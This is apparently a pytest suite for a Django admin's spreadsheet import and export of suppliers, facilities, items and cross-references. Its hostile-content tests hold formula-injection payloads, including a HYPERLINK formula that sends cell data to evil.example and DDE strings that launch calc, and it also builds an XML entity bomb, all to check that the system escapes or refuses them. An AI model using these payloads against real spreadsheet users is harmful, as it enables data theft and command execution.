"""Spreadsheet import and export: a dry run with per-row errors first, all or nothing unless
the steward takes the valid rows only, every row saved by a service, hostile files refused,
exported text safe to open in a spreadsheet."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from apps.exceptions.catalogue import codes
from apps.exceptions.models import BusinessException
from apps.masterdata import resources
from apps.masterdata.models import CrossReference, Facility, Item, Supplier
from tests.masterdata_admin.conftest import (
    XLSX,
    confirm_import,
    dry_run,
    export,
    make_xref,
    messages_of,
    xlsx_bytes,
    xlsx_rows,
)

FACILITIES = (
    b"code,name,kind,legal_entity,parent\nF2,South Clinic,clinic,LE1,\nF3,Ward 3,location,LE1,F1\n"
)


def invalid_lines(response) -> dict[int, dict]:
    """Spreadsheet line -> errors, as the dry-run page lists them."""
    return {row.number + 1: row.error_dict for row in response.context["result"].invalid_rows}


def test_a_good_csv_is_previewed_then_saved_on_confirm(steward_client, world):
    preview = dry_run(steward_client, Facility, "facilities.csv", FACILITIES)
    assert preview.status_code == 200
    result = preview.context["result"]
    assert [row.import_type for row in result.valid_rows()] == ["new", "new"]
    assert "confirm_form" in preview.context
    assert not Facility.objects.filter(code__in=["F2", "F3"]).exists()  # a dry run

    done = confirm_import(steward_client, Facility, preview)
    assert "Import finished: 2 new, 0 updated, 0 unchanged facilities." in messages_of(done)
    ward = Facility.objects.get(code="F3")
    assert (ward.legal_entity, ward.parent) == (world["entity"], world["facility"])


def test_headers_are_matched_loosely_and_unknown_columns_refused(steward_client, world):
    loose = dry_run(
        steward_client, Facility, "f.csv", b"Code, Name ,KIND,Legal Entity\nF2,S,clinic,LE1\n"
    )
    assert "confirm_form" in loose.context
    typo = dry_run(
        steward_client, Facility, "f.csv", b"code,nmae,kind,legal_entity\nF2,S,clinic,LE1\n"
    )
    (error,) = typo.context["result"].base_errors
    assert "Unknown column(s): nmae." in str(error.error)
    assert "confirm_form" not in typo.context
    missing = dry_run(steward_client, Facility, "f.csv", b"name,kind\nS,clinic\n")
    assert "Missing column(s): code." in str(missing.context["result"].base_errors[0].error)


BAD_SUPPLIERS = (
    b"code,name,status,effective_from\n"
    b"S2,Beta Surgical,active,2024-01-01\n"
    b"S3,Gamma Devices,sleeping,2024-01-01\n"
    b"S4,Delta Implants,active,31/12/2024\n"
    b"S5,Epsilon Ortho,active,\n"
)


def test_a_partly_bad_file_lists_each_rows_errors_and_saves_nothing(steward_client, world):
    preview = dry_run(steward_client, Supplier, "suppliers.csv", BAD_SUPPLIERS)
    assert preview.status_code == 200
    errors = invalid_lines(preview)
    assert sorted(errors) == [3, 4]
    assert "sleeping" in str(errors[3]["status"])
    assert errors[4]["effective_from"] == ["'31/12/2024' is not a date; write it as YYYY-MM-DD."]
    assert "confirm_form" not in preview.context
    assert "Nothing will be imported while any row has an error" in preview.content.decode()
    assert list(Supplier.objects.values_list("code", flat=True)) == ["S1"]


def test_valid_rows_only_imports_the_good_rows_and_lists_the_others(steward_client, world):
    preview = dry_run(
        steward_client, Supplier, "suppliers.csv", BAD_SUPPLIERS, valid_rows_only=True
    )
    assert "confirm_form" in preview.context
    assert sorted(invalid_lines(preview)) == [3, 4]
    done = confirm_import(steward_client, Supplier, preview)
    (message,) = messages_of(done)
    assert message.startswith("Import finished: 2 new, 0 updated, 0 unchanged suppliers.")
    assert "line 3 (status:" in message
    assert "line 4 (effective_from:" in message
    assert set(Supplier.objects.values_list("code", flat=True)) == {"S1", "S2", "S5"}


def test_import_saves_through_the_service_so_duplicates_are_found(steward_client, world):
    preview = dry_run(
        steward_client, Supplier, "s.csv", b"code,name,tax_id\nS2,ACME MEDICAL LLC,\n"
    )
    confirm_import(steward_client, Supplier, preview)
    new = Supplier.objects.get(code="S2")
    assert new.normalized_name == "acme medical"
    assert BusinessException.objects.filter(code_id=codes.MASTER_POSSIBLE_DUPLICATE).exists()


def test_reimporting_an_export_changes_nothing(steward_client, world):
    content = export(steward_client, Supplier)
    preview = dry_run(steward_client, Supplier, "s.csv", content)
    assert [row.import_type for row in preview.context["result"].valid_rows()] == ["skip"]


def test_an_update_by_code_and_a_merged_record_refused(steward_client, world):
    merged = Supplier.objects.create(
        code="S9",
        name="Old",
        normalized_name="old",
        status="merged",
        merged_into=world["supplier"],
    )
    preview = dry_run(
        steward_client,
        Supplier,
        "s.csv",
        b"code,name,payment_terms\nS1,Acme Medical Inc,NET45\nS9,Old,NET10\nS10,New,merged\n",
    )
    errors = invalid_lines(preview)
    assert sorted(errors) == [3]
    assert "merged into another record" in str(errors[3])
    assert preview.context["result"].valid_rows()[0].import_type == "update"
    merged.refresh_from_db()
    assert merged.payment_terms == ""


# --- Hostile content ----------------------------------------------------------------------------

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def _hostile_csv() -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["code", "name"])
    for n, name in enumerate(HOSTILE_NAMES, start=2):
        writer.writerow([f"S{n}", name])
    writer.writerow(["S9", "\t=1+2"])
    return out.getvalue().encode()


def test_formula_cells_are_stored_as_text_and_exported_escaped(steward_client, world):
    preview = dry_run(steward_client, Supplier, "evil.csv", _hostile_csv())
    confirm_import(steward_client, Supplier, preview)
    stored = dict(Supplier.objects.values_list("code", "name"))
    for n, name in enumerate(HOSTILE_NAMES, start=2):
        assert stored[f"S{n}"] == name
    assert stored["S9"] == "=1+2"  # surrounding whitespace trimmed, the text kept

    content = export(steward_client, Supplier).decode("utf-8-sig")
    names = {row["code"]: row["name"] for row in csv.DictReader(io.StringIO(content))}
    for n, name in enumerate(HOSTILE_NAMES, start=2):
        assert names[f"S{n}"] == "'" + name
    assert names["S1"] == "Acme Medical, Inc."

    rows, book = xlsx_rows(export(steward_client, Supplier, fmt=XLSX))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)  # not one formula in the workbook
    assert "'" + HOSTILE_NAMES[0] in {row[1] for row in rows}

    # The escape is undone on the way back in: an exported file re-imports unchanged.
    again = dry_run(steward_client, Supplier, "again.csv", content.encode())
    assert {r.import_type for r in again.context["result"].valid_rows()} == {"skip"}


def test_an_oversized_file_is_refused_before_reading(steward_client, world, settings):
    settings.HUBCONSOLE = {**settings.HUBCONSOLE, "IMPORT_MAX_BYTES": 1024}
    response = dry_run(steward_client, Supplier, "big.csv", b"code,name\n" + b"S2,x\n" * 400)
    errors = response.context["form"].errors["import_file"]
    assert errors == [
        "The file is 2.0\xa0KB; files up to 1.0\xa0KB are imported. Split it into smaller files."
    ]
    assert "result" not in response.context


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("code,name\nS2,Müller GmbH\n".encode("latin-1"), "The file is not UTF-8 text"),
        (bytes(range(256)) * 4, "The file is not UTF-8 text"),
        (b"code,name\nS2,\x00\x00\n", "binary data"),
        (b"", "The submitted file is empty."),
        (b'code,name\nS2,"unterminated\nS3,x\n', None),
    ],
    ids=["latin-1", "random bytes", "nul bytes", "empty", "bad quoting"],
)
def test_unreadable_files_get_a_clear_message(steward_client, world, content, expected):
    response = dry_run(steward_client, Supplier, "bad.csv", content)
    assert response.status_code == 200
    if expected is None:
        # Python's csv reads an unterminated quote to the end: one row, then shown per row.
        assert "confirm_form" in response.context or response.context["result"]
        return
    (error,) = response.context["form"].errors["import_file"]
    assert expected in error
    assert not Supplier.objects.exclude(code="S1").exists()


def test_a_csv_with_a_ragged_line_is_refused_with_its_line_number(steward_client, world):
    response = dry_run(steward_client, Supplier, "r.csv", b"code,name\nS2,a\nS3,b,extra\n")
    (error,) = response.context["form"].errors["import_file"]
    assert error.startswith("Line 3 has more cells than the header")


def test_a_semicolon_csv_from_a_european_spreadsheet_is_read(steward_client, world):
    response = dry_run(
        steward_client, Supplier, "s.csv", "code;name\r\nS2;Müller GmbH\r\n".encode("utf-8-sig")
    )
    (row,) = response.context["result"].valid_rows()
    assert row.import_type == "new"


# --- Excel --------------------------------------------------------------------------------------


def test_an_xlsx_is_imported(steward_client, world):
    content = xlsx_bytes(
        [
            ["code", "name", "gtin", "stocking_uom", "chargeable", "implant", "effective_from"],
            [1001, "Hip stem", 1234567890128, "EA", "yes", True, "2024-02-01"],
            ["I5", "Knee insert", None, "BX", "no", False, None],
        ]
    )
    preview = dry_run(steward_client, Item, "items.xlsx", content, fmt=XLSX)
    assert "confirm_form" in preview.context, invalid_lines(preview)
    confirm_import(steward_client, Item, preview)
    hip = Item.objects.get(code="1001")  # a number in a cell is still a code
    assert (hip.gtin, hip.chargeable, hip.implant, hip.stocking_uom.code) == (
        "1234567890128",
        True,
        True,
        "EA",
    )
    assert str(hip.effective_from) == "2024-02-01"


def test_xlsx_formula_cells_are_kept_as_their_text(steward_client, world):
    content = xlsx_bytes([["code", "name"], ["S2", '=HYPERLINK("http://evil.example","x")']])
    preview = dry_run(steward_client, Supplier, "s.xlsx", content, fmt=XLSX)
    confirm_import(steward_client, Supplier, preview)
    assert Supplier.objects.get(code="S2").name == '=HYPERLINK("http://evil.example","x")'


def test_openpyxl_parses_with_defusedxml_and_an_xml_bomb_is_refused(steward_client, world):
    assert openpyxl.DEFUSEDXML is True
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["code", "name"], ["S2", "x"]])))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w") as target:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(
                    b"<worksheet",
                    b'<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
                    b"<worksheet",
                    1,
                )
            target.writestr(member, data)
    response = dry_run(steward_client, Supplier, "bomb.xlsx", bomb.getvalue(), fmt=XLSX)
    (error,) = response.context["form"].errors["import_file"]
    assert "refused for safety" in error


def test_a_workbook_that_inflates_too_much_is_refused(steward_client, world, monkeypatch):
    monkeypatch.setattr(resources, "XLSX_MAX_UNCOMPRESSED_BYTES", 1000)
    content = xlsx_bytes([["code", "name"], ["S2", "x"]])
    response = dry_run(steward_client, Supplier, "zip.xlsx", content, fmt=XLSX)
    (error,) = response.context["form"].errors["import_file"]
    assert "unpacks to more than" in error


def test_a_csv_uploaded_as_xlsx_is_refused(steward_client, world):
    response = dry_run(steward_client, Supplier, "s.xlsx", b"code,name\nS2,x\n", fmt=XLSX)
    (error,) = response.context["form"].errors["import_file"]
    assert "not an Excel workbook" in error


def test_export_as_csv_and_xlsx(steward_client, world):
    content = export(steward_client, Facility).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(content))
    assert (row["code"], row["legal_entity"], row["kind"]) == ("F1", "LE1", "hospital")
    rows, _ = xlsx_rows(export(steward_client, Facility, fmt=XLSX))
    assert rows[0][:4] == ("code", "name", "kind", "legal_entity")
    assert rows[1][:4] == ("F1", "North Hospital", "hospital", "LE1")


# --- Cross-references ---------------------------------------------------------------------------


def test_imported_cross_references_are_always_drafts(
    steward_client, world, second_steward, steward
):
    approved = make_xref(
        author=second_steward,
        target=world["supplier"],
        system=world["erp"],
        code="OLD-1",
        status="approved",
    )
    content = (
        b"external_system,entity_type,external_code,target,status,note\n"
        b"ERP,supplier,ACME-77,S1,approved,\n"
        b"ERP,item,SCREW-9,I1,,\n"
        b"ERP,supplier,OLD-1,S1,,\n"  # already mapped so: nothing to propose
        b"ERP,facility,WARD-X,NOPE,,\n"
        b"CRM,supplier,Z,S1,,\n"
    )
    preview = dry_run(steward_client, CrossReference, "x.csv", content, valid_rows_only=True)
    errors = invalid_lines(preview)
    assert sorted(errors) == [5, 6]
    assert errors[5]["target"] == ["No facility has the code 'NOPE'."]
    assert "No external system has the code 'CRM'." in str(errors[6])
    done = confirm_import(steward_client, CrossReference, preview)
    assert any(m.startswith("Import finished: 2 new") for m in messages_of(done))
    new = CrossReference.objects.exclude(pk=approved.pk)
    assert {(x.external_code, x.status, x.created_by) for x in new} == {
        ("ACME-77", "draft", steward),
        ("SCREW-9", "draft", steward),
    }
    assert new.get(external_code="SCREW-9").target == world["item"]


def test_an_imported_change_to_an_approved_mapping_supersedes_it(
    steward_client, world, second_steward
):
    approved = make_xref(
        author=second_steward,
        target=world["supplier"],
        system=world["erp"],
        code="ACME-77",
        status="approved",
    )
    other = Supplier.objects.create(code="S2", name="Beta", normalized_name="beta")
    content = (
        b"external_system,entity_type,external_code,target,effective_from\n"
        b"ERP,supplier,ACME-77,S2,2024-06-01\n"
    )
    confirm_import(
        steward_client, CrossReference, dry_run(steward_client, CrossReference, "x.csv", content)
    )
    draft = CrossReference.objects.get(status="draft")
    assert (draft.supersedes, draft.target) == (approved, other)


def test_cross_references_export_with_codes(steward_client, world, steward):
    make_xref(author=steward, target=world["supplier"], system=world["erp"], code="+1 555")
    content = export(steward_client, CrossReference).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(content))
    assert (row["external_system"], row["target"], row["status"], row["proposed_by"]) == (
        "ERP",
        "S1",
        "draft",
        "erin",
    )
    assert row["external_code"] == "'+1 555"


def test_only_stewards_import(client, engineer, world):
    client.force_login(engineer)
    response = dry_run(client, Supplier, "s.csv", b"code,name\nS2,x\n")
    assert response.status_code == 403


def test_a_confirm_after_the_upload_expired_asks_to_upload_again(steward_client, world):
    from django.core.cache import cache

    preview = dry_run(steward_client, Facility, "facilities.csv", FACILITIES)
    cache.clear()
    done = confirm_import(steward_client, Facility, preview)
    assert done.redirect_chain[-1][0].endswith("/admin/masterdata/facility/import/")
    assert any("no longer available" in m for m in messages_of(done))
    assert not Facility.objects.filter(code="F2").exists()


def test_parts_conversions_and_charge_code_versions_import_by_codes(steward_client, world):
    from apps.masterdata.models import ChargeCode, UomConversion, VendorPart

    parts = b"supplier,part_number,item,uom\nS1,AC-100,I1,EA\nS1,AC-200,I1,\n"
    confirm_import(steward_client, VendorPart, dry_run(steward_client, VendorPart, "p.csv", parts))
    assert dict(VendorPart.objects.values_list("part_number", "uom__code")) == {
        "AC-100": "EA",  # updated, matched by supplier and part number
        "AC-200": None,
    }

    conversions = b"item,from_uom,to_uom,factor\n,BX,EA,10\nI1,BX,EA,12\nI1,BX,EA,x\n"
    preview = dry_run(steward_client, UomConversion, "c.csv", conversions, valid_rows_only=True)
    assert invalid_lines(preview)[4]["factor"] == ["'x' is not a number."]
    confirm_import(steward_client, UomConversion, preview)
    assert sorted((c.item_id is None, str(c.factor)) for c in UomConversion.objects.all()) == [
        (False, "12.000000"),
        (True, "10.000000"),
    ]

    versions = (
        b"code,effective_from,description,price,effective_to\n"
        b"C100,,Screw,12.50,2024-12-31\n"
        b"C100,2025-01-01,Screw,13.75,\n"
    )
    confirm_import(
        steward_client, ChargeCode, dry_run(steward_client, ChargeCode, "c.csv", versions)
    )
    assert list(ChargeCode.objects.values_list("effective_from", "price", "effective_to")) == [
        (datetime.date(2025, 1, 1), Decimal("13.75"), None),
        (datetime.date(2000, 1, 1), Decimal("12.50"), datetime.date(2024, 12, 31)),
    ]


def test_a_row_that_fails_at_confirm_time_cancels_the_whole_import(steward_client, world):
    from apps.masterdata.models import LegalEntity

    LegalEntity.objects.create(code="LE2", name="South Health")
    content = b"code,name,kind,legal_entity\nF2,South Clinic,clinic,LE2\nF3,Ward,location,LE1\n"
    preview = dry_run(steward_client, Facility, "f.csv", content)
    assert "confirm_form" in preview.context
    LegalEntity.objects.filter(code="LE1").update(code="LE1-OLD")  # changed meanwhile

    done = confirm_import(steward_client, Facility, preview)
    (message,) = messages_of(done)
    assert message.startswith("Nothing was imported: line 3 (legal_entity: No legal entity")
    assert not Facility.objects.filter(code__in=["F2", "F3"]).exists()
